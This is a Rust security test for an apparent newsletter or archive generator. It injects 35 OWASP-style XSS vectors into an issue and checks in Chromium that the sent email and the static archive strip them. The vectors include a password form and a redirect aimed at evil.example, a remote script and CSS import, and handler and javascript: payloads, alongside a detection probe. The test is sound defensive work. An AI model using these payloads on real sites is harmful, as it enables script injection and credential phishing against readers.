//! Issue 32's hostile HTML: 35 XSS vectors in an issue are cleaned by the allow-list in the
//! email and the static archive, and nothing of them runs in Chromium.

use crate::security::CONFIG;
use crate::security::OLIVE;
use crate::support;
use crate::support::tools;
use std::time::Duration;
use support::{Project, Sink, run};

/// Raw HTML an attacker would paste into an issue: the filter-evasion vectors of OWASP's
/// cheat sheet and the ones that passed the old deny-list. Each would set `window.xss`, leave
/// the page, or put a form or frame in front of a reader.
const XSS: &[&str] = &[
    "<svg/onload=window.xss=1>",
    "<img/src=x/onerror=window.xss=1>",
    "<a href=\"&#106;avascript:window.xss=1\">entity-encoded</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.xss=1\">hex</a>",
    "<a href=\"jav&#x09;ascript:window.xss=1\">tab</a>",
    "<a href=\" &#14;  javascript:window.xss=1\">leading junk</a>",
    "<iframe src=\"javascript:parent.xss=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.xss=1</script>\"></iframe>",
    "<object data=\"javascript:window.xss=1\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzPTE8L3NjcmlwdD4=\">",
    "<form action=\"https://evil.example/\"><input name=\"password\"><button>Verify</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<IMG SRC=\"javascript:window.xss=1\">",
    "<IMG SRC=JaVaScRiPt:window.xss=1>",
    "<IMG \"\"\"><SCRIPT>window.xss=1</SCRIPT>\">",
    "<IMG SRC=# onmouseover=\"window.xss=1\">",
    "<IMG SRC=/ onerror=\"window.xss=1\"></img>",
    "<img src=x onerror=\"&#0000119&#0000105&#0000110&#0000100&#0000111&#0000119.xss=1\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>window.xss=1;//\\<</SCRIPT>",
    "<BODY ONLOAD=window.xss=1>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:window.xss=1\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:window.xss=1\">",
    "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:window.xss=1)\">styled</DIV>",
    "<DIV STYLE=\"width: expression(window.xss=1);\">expression</DIV>",
    "<TABLE BACKGROUND=\"javascript:window.xss=1\"><tr><td>t</td></tr></TABLE>",
    "<BASE HREF=\"javascript:window.xss=1//\">",
    "<svg><script>window.xss=1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.xss=1></style></mglyph></table></mtext></math>",
    "<details open ontoggle=window.xss=1>",
    "<video><source onerror=\"window.xss=1\"></video>",
    "<a href=\"data:text/html,<script>parent.xss=1</script>\">data URL</a>",
    "<a onmouseover=\"window.xss=1\">xxs link</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.xss=1>\">",
];

/// What a hostile page would have done, read in Chromium after load: script run, navigation,
/// forms, frames, handlers, script URLs.
const PROBE: &str = r#"
const bad = [...document.querySelectorAll("*")].flatMap(e => [...e.attributes]
  .filter(a => /^on/i.test(a.name) || /^\s*(javascript|data|vbscript):/i.test(a.value))
  .map(a => e.tagName + " " + a.name + "=" + a.value));
const elements = [...document.querySelectorAll("script, iframe, object, embed, form, input, button, base, svg, math, meta[http-equiv=refresh i], link[rel=stylesheet]")]
  .map(e => e.outerHTML.slice(0, 80));
return JSON.stringify({ xss: window.xss === undefined ? null : window.xss, href: location.href, bad, elements });
"#;

#[test]
fn hostile_raw_html_is_cleaned_in_the_email_and_the_archive_and_runs_nowhere() {
    needs!(tools::SMTP_SINK, tools::CHROMEDRIVER);
    let sink = Sink::start();
    let small = std::fs::read_to_string(support::root().join("tests/fixtures/small.md")).unwrap();
    let issue = format!("{small}\n\n{}\n", XSS.join("\n\n"));
    let project = Project::new(sink.port, OLIVE, CONFIG).with_issues(&[("2025-08", issue)]);
    let send = run(project.command().args(["send", "2025-08", "--yes", "--force"]));
    assert_eq!(send.code, 0, "{}\n{}", send.stdout, send.stderr);
    let out = project.dir.path().join("public");
    let export = run(project.command().args(["archive", "--out"]).arg(&out));
    assert_eq!(export.code, 0, "{}", export.stderr);
    let (_, email) = sink.messages().pop().unwrap();
    let email_html = mail_parser::MessageParser::default()
        .parse(email.as_bytes())
        .unwrap()
        .body_html(0)
        .unwrap()
        .into_owned();
    let email_file = project.dir.path().join("email.html");
    std::fs::write(&email_file, &email_html).unwrap();

    let browser = support::webdriver::Browser::start(600);
    for page in [out.join("2025-08/index.html"), email_file] {
        let url = format!("file://{}", page.display());
        browser.open(&url);
        // Time for a refresh or a late handler to fire.
        std::thread::sleep(Duration::from_millis(1500));
        let seen: serde_json::Value = serde_json::from_str(browser.script(PROBE).as_str().unwrap()).unwrap();
        assert_eq!(seen["xss"], serde_json::Value::Null, "{page:?}: script ran: {seen}");
        assert_eq!(seen["href"], url.as_str(), "{page:?}: navigated away: {seen}");
        assert_eq!(seen["bad"], serde_json::json!([]), "{page:?}: {seen}");
        assert_eq!(seen["elements"], serde_json::json!([]), "{page:?}: {seen}");
        // In the markup itself (escaped text that merely reads like a vector is harmless).
        let text = std::fs::read_to_string(&page).unwrap().to_lowercase();
        let tags: Vec<&str> = text
            .split('<')
            .skip(1)
            .map(|t| t.split('>').next().unwrap_or(t))
            .collect();
        for needle in ["javascript:", "onerror", "onload", "evil.example"] {
            let holding: Vec<&&str> = tags.iter().filter(|t| t.contains(needle)).collect();
            assert!(holding.is_empty(), "{page:?}: {needle} in {holding:?}");
        }
    }
    // The writer is told what went.
    assert!(send.stderr.contains("raw HTML"), "{}", send.stderr);
}
